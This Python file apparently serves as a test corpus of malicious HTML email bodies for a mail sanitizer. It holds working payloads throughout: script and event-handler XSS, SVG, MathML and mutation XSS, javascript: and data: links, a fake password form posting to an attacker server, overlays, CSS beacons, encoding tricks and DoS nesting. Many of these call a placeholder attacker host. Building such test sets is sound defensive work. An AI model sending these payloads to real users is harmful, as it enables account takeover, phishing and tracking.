"""HTML mail made to hurt whoever reads it: each says what it tries; `{evil}` stands for a server of the attacker's."""

from typing import Final

ATTACKS: Final = {
    "script": "<p>Ciao</p><script>fetch('{evil}/script')</script><script src='{evil}/script.js'></script>",
    "event handlers": "<p onclick=x onmouseover=fetch('{evil}/over')>a</p><img src=x onerror=fetch('{evil}/error')>"
    "<body onload=fetch('{evil}/load')><details open ontoggle=fetch('{evil}/toggle')>b</details>",
    "svg": "<svg onload=fetch('{evil}/svg')><script>fetch('{evil}/svg2')</script><image href='{evil}/svg.png'/>"
    "<animate attributeName=href values=javascript:fetch('{evil}')/><use href='{evil}/use.svg#a'/>"
    "<foreignObject><img src='{evil}/foreign.png'></foreignObject></svg>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>"
    "<maction actiontype='statusline' xlink:href='javascript:alert(1)'>c</maction></math>",
    "frames": "<iframe src='{evil}/frame'></iframe><iframe srcdoc=\"<script src='{evil}/doc'></script>\"></iframe>"
    "<frameset><frame src='{evil}/frameset'></frameset><portal src='{evil}/portal'></portal>",
    "objects": "<object data='{evil}/object'></object><embed src='{evil}/embed'><applet code='{evil}/applet'></applet>"
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "refresh": "<meta http-equiv=refresh content='0;url={evil}/refresh'><p>wait</p>",
    "base": "<base href='{evil}/'><img src='base.png'><a href='x'>y</a>",
    "form": "<form action='{evil}/form' method=post><input name=password type=password autofocus>"
    "<button formaction='{evil}/button'>Sign in</button></form><isindex action='{evil}/index'>",
    "css import": "<style>@import '{evil}/import.css'; @import url({evil}/import2.css);</style><p>a</p>",
    "css url": "<style>p{background:url({evil}/bg.png)} @font-face{font-family:x;src:url({evil}/f.woff)}"
    " p::before{content:url({evil}/content.png)}</style><p style='font-family:x'>a</p>",
    "css attribute": '<p style=\'background:url({evil}/p.png);background-image:image-set("{evil}/set.png" 1x);'
    "list-style:url({evil}/list.png);cursor:url({evil}/c.cur),auto;border-image:url({evil}/border.png)'>a</p>",
    "css escapes": "<p style='background:u\\72l({evil}/escaped.png);b\\61ckground-image:url({evil}/escaped2.png)'>a</p>"
    "<p style='color:red/*;*/;background:/**/url({evil}/comment.png)'>b</p>",
    "css expression": "<p style='width:expression(alert(1));behavior:url({evil}/x.htc)'>a</p>",
    "overlay": "<div style='position:fixed;inset:0;z-index:99999;background:#fff;opacity:.01'>Sign in again</div>"
    "<div style='position:absolute;top:-9999px;transform:scale(99)'>b</div>",
    "remote images": "<img src='{evil}/1.gif'><img srcset='{evil}/2x.png 2x'><picture><source srcset='{evil}/s.png'>"
    "<img src='{evil}/p.png'></picture><input type=image src='{evil}/input.png'><img src='//evil.example/p.gif'>",
    "backgrounds": "<body background='{evil}/body.png'><table background='{evil}/t.png'><tr><td background='{evil}/td'>"
    "a</td></tr></table></body>",
    "links": "<link rel=stylesheet href='{evil}/l.css'><link rel=prefetch href='{evil}/pre'>"
    "<link rel=dns-prefetch href='{evil}'><link rel=preconnect href='{evil}'><link rel=icon href='{evil}/i.ico'>"
    "<link rel=modulepreload href='{evil}/m.js'><link rel=manifest href='{evil}/manifest'>",
    "media": "<video src='{evil}/v.mp4' poster='{evil}/poster.png' autoplay></video><audio src='{evil}/a' autoplay>"
    "</audio><track src='{evil}/t.vtt'><bgsound src='{evil}/b.wav'>",
    "javascript links": "<a href='javascript:alert(1)'>a</a><a href='JaVaScRiPt:alert(1)'>b</a>"
    "<a href='java&#10;script:alert(1)'>c</a><a href='&#106;avascript&colon;alert(1)'>d</a>"
    "<a href='\x01javascript:alert(1)'>e</a><area href='javascript:alert(1)'>",
    "other schemes": "<a href='data:text/html,<script>alert(1)</script>'>a</a><a href='vbscript:msgbox(1)'>b</a>"
    "<a href='file:///etc/passwd'>c</a><a href='blob:x'>d</a><img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "ping": "<a href='https://good.example' ping='{evil}/ping' download target=_top>a</a>",
    "mutation one": "<noscript><p title='</noscript><img src=x onerror=fetch(`{evil}/m1`)>'>",
    "mutation two": "<form><math><mtext></form><form><mglyph><style></math><img src='{evil}/m2' onerror=alert(1)>",
    "mutation three": "<svg></p><style><a id='</style><img src={evil}/m3 onerror=alert(1)>'>",
    "mutation four": "<table><style><!--</style><a href='--><img src={evil}/m4 onerror=alert(1)>'>x</table>",
    "mutation five": "<xmp><p title='</xmp><img src={evil}/m5 onerror=alert(1)>'></xmp><plaintext><img src={evil}/m6>",
    "textarea": "<textarea><img src='{evil}/t1'></textarea><title><img src='{evil}/t2'></title><select><template>"
    "<img src='{evil}/t3'></template></select>",
    "encodings": "<p>&lt;img src={evil}/e1 onerror=alert(1)&gt; &amp;lt;script&amp;gt;</p>%3Cimg src={evil}/e2%3E",
    "utf-7": "+ADw-script+AD4-fetch('{evil}/utf7')+ADw-/script+AD4-<meta charset=utf-7>",
    "null bytes": "<scr\x00ipt>fetch('{evil}/null')</scr\x00ipt><img\x00src='{evil}/null.png'><img/src='{evil}/s'>",
    "conditional": "<!--[if mso]><img src='{evil}/mso'><script>x</script><![endif]--><!--[if !mso]><!-->"
    "<img src='{evil}/notmso'><!--<![endif]--><![if true]><img src='{evil}/down'><![endif]>",
    "comments": "<!--><img src='{evil}/c1'>--><!--a--!><img src='{evil}/c2'>--><!doctype html [<!ENTITY x 'y'>]>&x;"
    "<?xml-stylesheet href='{evil}/xml.css'?><![CDATA[<img src='{evil}/cdata'>]]>",
    "unclosed": "<a href='https://a.example' style='color:red<img src={evil}/u1 onerror=alert(1)><b<img src='{evil}/2'",
    "custom elements": "<x-y onclick=alert(1) src='{evil}/x'>a</x-y><slot></slot><dialog open>b</dialog>"
    "<p is=x-p slot=y part=z contenteditable nonce=abc popover popovertarget=q>c</p><q cite='{evil}/cite'>d</q>",
    "names": "<img name=cookie><form name=querySelector></form><a id=location name=location href=#>x</a>"
    "<p id=csrf_token class='fd-button fd-overlay'>y</p>",
    "foreign picture": "<img src='cid:not-there'><img src='CID:picture@mail' width=99999999 height=99999999>",
    "huge table": "<table width='99999999' style='width:99999999px'>" + "<tr><td>x</td></tr>" * 3_000 + "</table>",
    "deep": "<div>" * 4_000 + "in the deep <img src='{evil}/deep'>" + "</div>" * 10,
    "no end": "<b><i><u>" * 2_000 + "<p>x" * 2_000,
    "shouting": "<p style='font-size:99999px;letter-spacing:9999px;line-height:9999'>A</p><marquee>b</marquee><blink>c",
    "direction": "<p dir=rtl>\u202egnp.exe</p><bdo dir=rtl>cba</bdo>",
    "autofocus": "<p tabindex=1 accesskey=x autofocus onfocus=alert(1)>a</p><input autofocus onfocus=alert(1)>",
}


def attacks(evil: str) -> dict[str, str]:
    """Every letter, {what it tries: its HTML}, with the attacker's server in its place."""
    return {name: html.replace("{evil}", evil) for name, html in ATTACKS.items()}
